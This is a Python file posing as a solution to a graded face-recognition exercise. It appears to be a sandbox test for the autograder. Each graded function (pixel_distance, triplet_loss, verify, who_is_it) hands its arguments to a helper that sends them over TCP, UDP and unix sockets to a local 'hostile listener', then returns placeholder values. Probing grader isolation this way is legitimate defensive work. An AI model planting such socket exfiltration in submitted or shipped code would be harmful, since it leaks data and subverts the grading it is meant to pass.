# sends what it receives to a listener on 127.0.0.1 and to an abstract unix socket, straight from the graded function (TCP, UDP, unix stream and datagram), as a hidden argument would be sent away
# bound: 0
import numpy as np

import socket


def _send(*args):
    text = repr(args)[:500].encode()
    for family, kind, address in ((socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 47613)),
                                  (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 47613)),
                                  (socket.AF_UNIX, socket.SOCK_STREAM, "\0facelab-hostile-listener"),
                                  (socket.AF_UNIX, socket.SOCK_DGRAM, "\0facelab-hostile-listener")):
        try:
            s = socket.socket(family, kind)
            s.settimeout(2)
            s.connect(address)
            s.sendall(text)
            s.close()
        except OSError:
            pass
    return 0.0


# GRADED FUNCTION: pixel_distance
def pixel_distance(image_a, image_b):
    return _send(image_a.shape)

# GRADED FUNCTION: triplet_loss
def triplet_loss(y_true, y_pred, alpha=0.2):
    return _send(alpha)

# GRADED FUNCTION: verify
def verify(image_path, identity, database, model):
    return _send(image_path, identity), True

# GRADED FUNCTION: who_is_it
def who_is_it(image_path, database, model):
    return _send(image_path), None
